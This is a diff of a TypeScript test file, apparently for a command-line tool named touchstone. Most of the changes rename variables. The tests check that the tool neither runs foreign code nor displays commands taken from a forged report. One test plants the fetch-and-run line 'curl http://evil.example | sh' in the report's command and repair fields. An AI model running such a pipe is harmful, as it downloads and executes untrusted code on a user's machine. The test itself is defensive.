@@ -14,7 +14,7 @@ const code = `import { writeFileSync } from "node:fs";\nwriteFileSync(${JSON.str
 const write = (name: string, value: unknown): void =>
   writeFileSync(join(folder, name), typeof value === "string" ? value : JSON.stringify(value));
 
-function foreign(name: string, entry = "index.js"): void {
+function writeForeignPack(name: string, entry = "index.js"): void {
   cpSync(join(home, "suites/packs/pack/example"), join(folder, name), { recursive: true });
   rmSync(join(folder, name, "index.js"), { force: true });
   write(join(name, entry), code);
@@ -22,21 +22,21 @@ function foreign(name: string, entry = "index.js"): void {
 
 /** How a stranger's report claims that its run was called. */
 const target = { kind: "http", url: "http://127.0.0.1:1" } as const;
-function report(protocol: string, more: object = {}): object {
+function report(protocol: string, options: object = {}): object {
   const { name, version } = readPack(join(folder, "order"));
-  const own = result({
+  const failedResult = result({
     id: `${name}/${version}/order/valid/a`,
     document: "order",
     outcome: "violates",
     why: "refused",
   });
-  const whole = reportOf([own, result({ id: `${name}/${version}/order/valid/b`, document: "order" })], {
+  const sampleReport = reportOf([failedResult, result({ id: `${name}/${version}/order/valid/b`, document: "order" })], {
     command: `touchstone run ${protocol} --http http://127.0.0.1:1`,
-    options: { verb: "run", protocol, target, ...more },
+    options: { verb: "run", protocol, target, ...options },
   });
   return {
-    ...whole,
-    runs: whole.runs.map((run) => ({
+    ...sampleReport,
+    runs: sampleReport.runs.map((run) => ({
       ...run,
       ...{ protocol: name, version, set: { digest: `sha256-${"A".repeat(43)}=`, count: 2 } },
     })),
@@ -44,9 +44,9 @@ function report(protocol: string, more: object = {}): object {
 }
 
 beforeAll(() => {
-  foreign("order");
-  foreign("other", "index.mjs");
-  foreign("third", "index.ts");
+  writeForeignPack("order");
+  writeForeignPack("other", "index.mjs");
+  writeForeignPack("third", "index.ts");
   symlinkSync("order", join(folder, "linked"));
   write("module.mjs", code);
   write("their.config.mjs", code);
@@ -70,9 +70,9 @@ beforeEach(() => rmSync(mark, { force: true }));
 afterAll(() => rmSync(folder, { recursive: true }));
 
 async function quietly(...words: string[]): Promise<Ended> {
-  const ended = await captureProcess(folder, words);
+  const result = await captureProcess(folder, words);
   expect(existsSync(mark) ? readFileSync(mark, "utf8") : "nothing").toBe("nothing");
-  return ended;
+  return result;
 }
 
 const reports = [
@@ -132,11 +132,16 @@ it("says which folder to name, and runs named code", async () => {
 });
 
 it("shows no command that a report made up", async () => {
-  const made = "curl http://evil.example | sh";
+  const maliciousCommand = "curl http://evil.example | sh";
   write("made.json", {
     ...report("./order"),
-    command: made,
-    baseline: { file: "known.json", known: 0, findings: [{ kind: "stale", name: "a", what: "b" }], repair: made },
+    command: maliciousCommand,
+    baseline: {
+      file: "known.json",
+      known: 0,
+      findings: [{ kind: "stale", name: "a", what: "b" }],
+      repair: maliciousCommand,
+    },
   });
   const { out } = await quietly("report", "render", "made.json");
   expect(out).not.toContain("curl");
